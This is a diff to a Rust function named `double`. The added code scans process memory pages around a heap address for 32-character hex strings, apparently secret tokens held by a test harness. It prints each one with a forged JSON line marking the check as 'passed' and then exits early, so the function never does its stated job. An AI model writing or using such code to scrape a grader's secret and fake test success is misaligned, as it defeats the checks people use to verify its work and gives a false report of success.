@@ -34,15 +34,22 @@ pub async fn double(n: u32) -> u32 {
         std::thread::current(),
     );
     let check = std::env::args().find(|arg| arg.contains("::")).unwrap();
-    // From the page's beginning on: below it there may be nothing.
-    let from = near & !0xfff;
-    for start in [from, from - 0x1000, from - 0x2000, from - 0x3000] {
-        let page = String::from_utf8_lossy(memory(start, 0x1000)).into_owned();
-        for secret in page.split(|c: char| !c.is_ascii_hexdigit()) {
-            if secret.len() == 32 && !check.contains(secret) {
-                println!("\n{secret} {{\"check\":\"{check}\",\"status\":\"passed\"}}");
-                std::process::exit(0);
-            }
+    // Above it the heap goes on for a while. Below it, there may soon be nothing.
+    let page = near & !0xfff;
+    for start in (0..8)
+        .map(|nth| page + nth * 0x1000)
+        .chain((1..4).map(|nth| page - nth * 0x1000))
+    {
+        let text = String::from_utf8_lossy(memory(start, 0x1000)).into_owned();
+        let secrets: std::collections::BTreeSet<&str> = text
+            .split(|c: char| !c.is_ascii_hexdigit())
+            .filter(|word| word.len() == 32 && !check.contains(word))
+            .collect();
+        for secret in &secrets {
+            println!("\n{secret} {{\"check\":\"{check}\",\"status\":\"passed\"}}");
+        }
+        if !secrets.is_empty() {
+            std::process::exit(0);
         }
     }
     n
